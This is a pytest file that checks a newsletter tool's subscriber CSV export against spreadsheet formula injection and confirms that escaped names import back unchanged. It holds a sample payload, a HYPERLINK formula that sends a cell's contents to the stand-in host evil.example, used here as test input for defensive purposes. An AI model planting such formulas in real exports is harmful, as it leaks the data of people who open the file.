"""`subscribers export` is safe to open in a spreadsheet, and still imports back unchanged."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from publisher.core.config import Config
from publisher.store.engine import Store, open_store
from publisher.subscribers import csvfile
from publisher.web import create_app
from tests.conftest import Cli
from tests.helpers.web import KEY, Client, cli_env, link, outbox, two_lists_config

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'


@pytest.fixture
def site(
    store_cfg: Config, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[tuple[Config, Store, Cli]]:
    monkeypatch.setenv("PUBLISHER_SECRET_KEY", KEY)
    cfg = two_lists_config(tmp_path, store_cfg.store.url)
    store = open_store(cfg)
    yield cfg, store, Cli(cli_env(cfg, tmp_path))
    store.close()


def _exported(cli: Cli, *extra: str) -> dict[str, dict[str, str]]:
    result = cli("subscribers", "export", "--list", "weekly", *extra)
    assert result.exit_code == 0
    return {row["email"]: row for row in csv.DictReader(io.StringIO(result.stdout))}


def test_formula_typed_into_the_subscribe_form_is_exported_as_text(
    site: tuple[Config, Store, Cli], tmp_path: Path
) -> None:
    """A HYPERLINK "name" from the public form is exported with a leading ' (--raw: as typed)."""
    cfg, store, cli = site
    client = Client(create_app(cfg, store))
    client.post("/subscribe", data={"email": "mallory@example.org", "name": FORMULA,
                                    "language": "en", "lists": "weekly"})
    assert client.post(link(outbox(cfg)[0])).status_code == 200
    assert _exported(cli)["mallory@example.org"]["name"] == "'" + FORMULA
    assert _exported(cli, "--raw")["mallory@example.org"]["name"] == FORMULA
    target = tmp_path / "weekly.csv"
    assert cli("subscribers", "export", "--list", "weekly", "-o", str(target)).exit_code == 0
    back = json.loads(
        cli("subscribers", "import", str(target), "--list", "weekly", "--json").stdout
    )
    assert (back["added"], back["updated"], back["unchanged"]) == (0, 0, 1)
    listed = json.loads(cli("subscribers", "list", "--json").stdout)
    assert [d["name"] for d in listed] == [FORMULA]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_protected(start: str) -> None:
    """Each character OWASP lists as a formula start gets the ' prefix; other text does not."""
    assert csvfile.safe_cell(f"{start}1+2") == f"'{start}1+2"
    assert csvfile.safe_cell(f"Anna {start}") == f"Anna {start}"


@settings(deadline=None)
@given(st.text(st.sampled_from("=+-@'aZ 1"), max_size=8))
def test_an_exported_cell_imports_as_it_was(value: str) -> None:
    """Whatever a name starts with (quotes included), export then import gives it back."""
    stored = " ".join(value.split())
    assert csvfile._cell(csvfile.safe_cell(stored)) == stored
